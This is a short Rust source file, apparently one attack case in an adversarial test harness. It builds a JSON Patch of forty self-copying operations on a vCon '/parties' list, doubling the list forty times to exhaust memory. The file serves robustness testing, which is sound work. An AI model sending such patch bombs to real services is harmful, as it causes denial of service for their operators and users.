//! Doubles a list forty times in one JSON Patch.

use hostile::prelude::*;

hostile::attack!("copy-bomb", attack);

fn attack(_: &Vcon, _: Target) -> Result<Outcome, Failure> {
    let copy = r#"{"op":"copy","from":"/parties","path":"/parties/-"}"#;
    document::patch(&format!("[{}]", vec![copy; 40].join(",")))?;
    Ok(Outcome::Next)
}
